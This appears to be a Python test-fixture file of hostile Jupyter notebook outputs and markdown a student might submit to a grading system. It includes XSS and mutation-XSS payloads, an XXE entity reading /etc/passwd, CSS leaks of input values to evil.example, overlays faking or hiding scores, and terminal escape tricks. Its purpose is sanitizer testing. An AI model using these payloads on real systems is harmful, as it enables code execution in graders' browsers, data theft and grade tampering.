"""Outputs and markdown as a hostile student makes them, by what they try."""

import base64
from typing import Any

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5Erk"
    "Jggg=="
)
HUGE = base64.b64encode(
    base64.b64decode(PNG)[:16] + (10**6).to_bytes(4, "big") * 2 + b"\x08\x06"
).decode()
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
AWAY = "http://evil.example"

PAGES = {
    "a script": "<script>alert(1)</script>words",
    "a script in capitals": "<ScRiPt>alert(1)</sCrIpT >words",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>words",
    "a module from elsewhere": f"<script type=module src={AWAY}/x.js></script>words",
    "a picture that fails": "<img src=x onerror=alert(1)>words",
    "an attribute behind a slash": "<img/src=x/onerror=alert(1)>words",
    "a drawing that loads": "<svg onload=alert(1)><rect width=1 height=1></svg>words",
    "a script in a drawing": "<svg><script>alert(1)</script></svg>words",
    "a link that runs": "<a href=javascript:alert(1)>words</a>",
    "a link that runs, in entities": "<a href='&#106;ava&Tab;script&colon;alert(1)'>words</a>",
    "a link of data": "<a href='data:text/html,<script>alert(1)</script>'>words</a>",
    "a link to the course's own folders": "<a href=../../evil.html>words</a>",
    "a link over the page": f"<a href={AWAY} target=_top>words</a>",
    "a frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>words",
    "an object": "<object data=data:text/html,x></object><embed src=x>words",
    "another base": f"<base href={AWAY}/>words",
    "another page": f"<meta http-equiv=refresh content='0;url={AWAY}'>words",
    "a style sheet from elsewhere": f"<link rel=stylesheet href={AWAY}/x.css>words",
    "a form over the page": (
        f"<form action={AWAY}><input name=score autofocus onfocus=alert(1)></form>words"
    ),
    "a score box": (
        "<div class=nbgrader_cell><input class='score tabbable' id=conv2d value=100></div>words"
    ),
    "a button of formgrader": (
        "<button class='btn full-credit' onclick=alert(1)>Full credit</button>words"
    ),
    "an id of formgrader": "<p id=conv2d>words</p>",
    "a name of the window": "<img name=getCookie><form id=formgrader></form>words",
    "a picture from elsewhere": f"<img src={AWAY}/pixel.png>words",
    "a picture from elsewhere without a scheme": "<img src=//evil.example/pixel.png>words",
    "many pictures from elsewhere": f"<img srcset='{AWAY}/a 1x, {AWAY}/b 2x'>words",
    "a picture that is a page": "<img src='data:text/html,x'>words",
    "a picture that is a drawing": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>words",
    "a background from elsewhere": f"<table background={AWAY}><tr><td>words</table>",
    "a background in a style": f"<p style='background:url({AWAY})'>words",
    "a background in an escaped style": f"<p style='background:u\\72l({AWAY})'>words",
    "a cover over the page": (
        "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>100 / 100</div>"
    ),
    "a cover, commented": "<div style='position:/**/fixed;inset:0'>100 / 100</div>",
    "a cover of Bootstrap": "<div class='modal-backdrop navbar-fixed-top'>100 / 100</div>",
    "a style that hides scores": "<style>.score, .nbgrader_cell { display: none }</style>words",
    "a style that imports": f"<style>@import '{AWAY}/x.css';</style>words",
    "a style with a font": (
        f"<style>@font-face {{ font-family: a; src: url({AWAY}) }} "
        "p { font-family: a }</style><p>words"
    ),
    "a style that reads keys": (
        f"<style>input[value^='1'] {{ background: url({AWAY}/1) }}</style>words"
    ),
    "a style for what is around": (
        "<style>p { body:has(&) .score { display: none } }</style><p>words"
    ),
    "a style that ends early": (
        "<style>p::after { content: '</style><img src=x onerror=alert(1)>' }</style><p>words"
    ),
    "a style that closes its scope": (
        "<style>p { color: red } } } .score { display: none } { {</style><p>words"
    ),
    "a style in a drawing": "<svg><style><img src=x onerror=alert(1)></style></svg>words",
    "mutated formulas": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>words"
    ),
    "mutated comments": "<!--><img src=x onerror=alert(1)>-->words",
    "mutated templates": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>words"
    ),
    "text areas": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>words",
    "foreign content": (
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>words"
    ),
    "an animated link": (
        "<svg><a xlink:href=#><animate attributeName=href values=javascript:alert(1) /><text>"
        "x</text></a></svg>words"
    ),
    "a drawing of elsewhere": (
        f"<svg><image href={AWAY}/x.png /><use href={AWAY}/x.svg#a /></svg>words"
    ),
    "a widget of Bootstrap": "<a data-toggle=modal data-target='#x' data-link=/evil>words</a>",
    "a formula with a link": r"<p>$\href{javascript:alert(1)}{x}$",
    "a formula in pieces": (
        r"<p>$\hr<!-- -->ef{javascript:alert(1)}{x} \st<x>yle{position:fixed}{x}$"
    ),
    "a heading that closes the page": "</div></div></body><script>alert(1)</script>words",
    "an editable page": (
        "<p contenteditable accesskey=x tabindex=1 autofocus onfocus=alert(1)>words"
    ),
    "text that never ends": "<plaintext>words",
    "sound and film": (
        f"<video autoplay poster={AWAY}><source src={AWAY}></video><audio src={AWAY} autoplay>"
        "</audio>words"
    ),
    "elements of the page's own": "<x-y onpointerenter=alert(1) is=z slot=a>words</x-y>",
    "a thousand elements deep": "<div>" * 1000 + "words",
    "a null in a name": "<scr\0ipt>alert(1)</scr\0ipt><img src=x \0onerror=alert(1)>words",
}
DRAWINGS = {
    "a script": f"<svg {SVG}><script>alert(1)</script><rect width='1' height='1'/></svg>",
    "an event": f"<svg {SVG} onload='alert(1)'><rect width='1' height='1'/></svg>",
    "a style from elsewhere": (
        f"<svg {SVG}><style>@import url({AWAY}); rect {{ fill: url({AWAY}#a) }}</style><rect "
        "width='1' height='1'/></svg>"
    ),
    "entities": (
        f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {SVG}><text>&a;</text></svg>"
    ),
    "a picture from elsewhere": (
        f"<svg {SVG}><image xlink:href='{AWAY}/a.png'/><rect width='1' height='1'/></svg>"
    ),
    "a part from elsewhere": (
        f"<svg {SVG}><use xlink:href='{AWAY}/a.svg#b'/><rect width='1' height='1'/></svg>"
    ),
    "an animation": (
        f"<svg {SVG}><rect><set attributeName='onmouseover' to='alert(1)'/></rect></svg>"
    ),
    "a page inside": (
        f"<svg {SVG}><foreignObject><body onload='alert(1)'/></foreignObject><rect width='1' "
        "height='1'/></svg>"
    ),
    "a link": (
        f"<svg {SVG}><a xlink:href='javascript:alert(1)'><rect width='1' height='1'/></a></svg>"
    ),
    "parts of parts of parts": f"<svg {SVG}>"
    + "".join(f'<g id="a{n}">' + f'<use href="#a{n + 1}"/>' * 10 + "</g>" for n in range(9))
    + '<g id="a9"><path d="M0 0L9 9"/></g></svg>',
}
MARKDOWN = {
    "a script": "words <script>alert(1)</script>",
    "a picture that fails": "words\n\n<img src=x onerror=alert(1)>",
    "a block of HTML": "<div onclick=alert(1)\nstyle='position:fixed;inset:0'>\nwords",
    "an unfinished element": "<div\n<img src=x onerror=alert(1)//",
    "a link that runs": "[words](javascript:alert(1))",
    "a link that runs, in entities": "[words](java&#115;cript&colon;alert(1))",
    "a link that runs, escaped": r"[words](javascript\:alert(1))",
    "a link that runs, in pointed brackets": "[words](<javascript:alert(1)>)",
    "a link that runs, on the next line": "[words](\n  javascript:alert(1) 'title')",
    "a link that runs, defined elsewhere": "[words][a]\n\n[a]: javascript:alert(1)",
    "a link that runs, defined over two lines": "[words][a\nb]\n\n[a\nb]:\n  <javascript:alert(1)>",
    "a link that runs once nbconvert has stripped it": "[words](files/javascript:alert(1))",
    "an address that runs": "<javascript:alert(1)>",
    "a link of data": "[words](data:text/html;base64,PHNjcmlwdD4=)",
    "a link to the course's own folders": "[words](evil.html)",
    "a picture from elsewhere": f"![words]({AWAY}/pixel.png)",
    "a picture from elsewhere without a scheme": "![words](//evil.example/pixel.png)",
    "a picture from elsewhere by name": f"![words][a]\n\n[a]: {AWAY}/pixel.png",
    "a picture that is a drawing": "![words](data:image/svg+xml;base64,PHN2Zz4=)",
    "a diagram": "```mermaid\ngraph LR\n A --> B\n</pre><img src=x onerror=alert(1)>\n```",
    "a diagram in entities": "```&#109;ermaid\n<script>alert(1)</script>\n```",
    "a style": "<style>.score { display: none }</style>\n\nwords",
    "another base": f"<base href={AWAY}>",
    "a form": f"<form action={AWAY}><input name=x></form>",
    "a comment that never ends": "words <!-- and",
    "a formula with a link": r"$\href{javascript:alert(1)}{x}$",
    "a formula with a style": "$$\\style{position:fixed;inset:0}{x}\n\\cssId{score}{y}$$",
    "a formula in entities": r"&#36;\hr&#101;f{javascript:alert(1)}{x}&#36;",
    "a picture that is not attached": "![words](attachment:missing.png)",
    "HTML in an element that may stay": (
        "<table>\n<tr><td><x, onmouseover=alert(1) style=position:fixed>words</td></tr></table>"
    ),
    "HTML in code that one parser takes for none": "`` ` <img src=x onerror=alert(1)> `",
}


def display(kind: str, data: Any, metadata: Any = None) -> dict[str, Any]:
    """An output that displays one MIME type of something."""
    metadata = {} if metadata is None else metadata
    return {"output_type": "display_data", "data": {kind: data}, "metadata": metadata}


def stream(text: Any) -> dict[str, Any]:
    """Printed text."""
    return {"output_type": "stream", "name": "stdout", "text": text}


OTHERS: dict[str, Any] = {
    "a program": display("application/javascript", "alert(1)"),
    "a program and text": {
        "output_type": "display_data",
        "data": {"text/javascript": "alert(1)", "text/plain": "words"},
        "metadata": {},
    },
    "a widget": display("application/vnd.jupyter.widget-view+json", {"model_id": "a"}),
    "a chart with an address": display("application/vnd.vega.v5+json", {"data": {"url": AWAY}}),
    "a document": display("application/pdf", "JVBERi0="),
    "a diagram": display("text/vnd.mermaid", "</pre><script>alert(1)</script>"),
    "a formula": display("text/latex", r"$\href{javascript:alert(1)}{x}$"),
    "a picture that ends its attribute": display("image/png", '"><script>alert(1)</script>'),
    "a picture that is a page": display("image/png", base64.b64encode(b"<script>").decode()),
    "a picture of a million pixels squared": display("image/png", HUGE),
    "a JPEG that is a PNG": display("image/jpeg", PNG),
    "metadata with an attribute": display(
        "image/png",
        PNG,
        {
            "image/png": {
                "width": "1 onerror=alert(1)",
                "alt": '"><script>',
                "unconfined": True,
            },
            "filenames": {"image/png": f"{AWAY}/x"},
        },
    ),
    "metadata that isolates": display("text/html", "words", {"text/html": {"isolated": True}}),
    "a colour without a number": stream("words \x1b[38m red"),
    "a title of the window": stream(
        "words \x1b]0;title\x07 \x1b]52;c;QQ==\x07 \x1b]8;;http://evil.example\x1b\\x"
    ),
    "half a letter": stream("words \ud800"),
    "nulls and bells": stream("words \0\x07\x08\x9b31m"),
    "a flood": stream("words\n" * 1_000_000),
    "a stream without a text": {"output_type": "stream", "name": 7, "text": {"a": 1}},
    "an error without its parts": {"output_type": "error", "traceback": "no list"},
    "an error that escapes": {
        "output_type": "error",
        "ename": "\x1b[48;5m",
        "evalue": "\ud800",
        "traceback": ["\x1b[38;2;1m", 7],
    },
    "a kind that is none": {"output_type": "update_display_data", "data": {}},
    "a kind that is a list": {"output_type": ["stream"], "text": "x"},
    "a count that is text": {
        "output_type": "execute_result",
        "data": {"text/plain": "words"},
        "metadata": {},
        "execution_count": "<b>",
    },
    "data that is a list": {
        "output_type": "display_data",
        "data": ["text/html"],
        "metadata": "none",
    },
    "HTML that is a number": display("text/html", 7),
    "a form named after a script": display("<script>", "x"),
    "no output": 7,
    "nothing": None,
}
ALL: dict[str, Any] = {
    **{f"page: {name}": display("text/html", text) for name, text in PAGES.items()},
    **{f"drawing: {name}": display("image/svg+xml", text) for name, text in DRAWINGS.items()},
    **{f"markdown: {name}": display("text/markdown", text) for name, text in MARKDOWN.items()},
    **{f"other: {name}": output for name, output in OTHERS.items()},
}
